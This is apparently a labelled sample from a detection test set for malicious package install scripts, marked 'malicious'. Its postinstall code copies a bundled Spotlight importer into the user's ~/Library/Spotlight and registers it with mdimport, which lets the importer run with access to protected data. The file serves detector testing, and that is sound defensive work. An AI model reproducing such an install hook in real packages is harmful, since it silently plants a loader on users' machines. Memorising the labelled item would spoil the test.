// when: install
// expect: malicious
// source: blind set 30 (macOS Spotlight importer abuse, after Sploitlight, 2025): the postinstall copies a bundled
// .mdimporter into ~/Library/Spotlight, where mdworker loads it for every Markdown file with its access to protected data.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');
const SRC = path.join(__dirname, 'importer', 'Md.mdimporter');
const DST = path.join(os.homedir(), 'Library', 'Spotlight', 'Md.mdimporter');
fs.cpSync(SRC, DST, { recursive: true });
execFileSync('/usr/bin/mdimport', ['-r', DST]);
